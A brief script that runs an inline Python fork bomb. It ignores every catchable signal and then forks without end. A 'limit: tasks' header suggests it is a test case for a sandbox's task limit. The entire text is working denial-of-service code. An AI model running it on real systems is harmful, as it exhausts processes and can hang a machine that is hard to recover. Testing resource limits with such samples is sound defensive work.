# A fork bomb without a shell, that minds no signal that it can mind.
# limit: tasks
python3 -c '
import os, signal
for n in range(1, 64):
    try:
        signal.signal(n, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        os.fork()
    except OSError:
        pass'
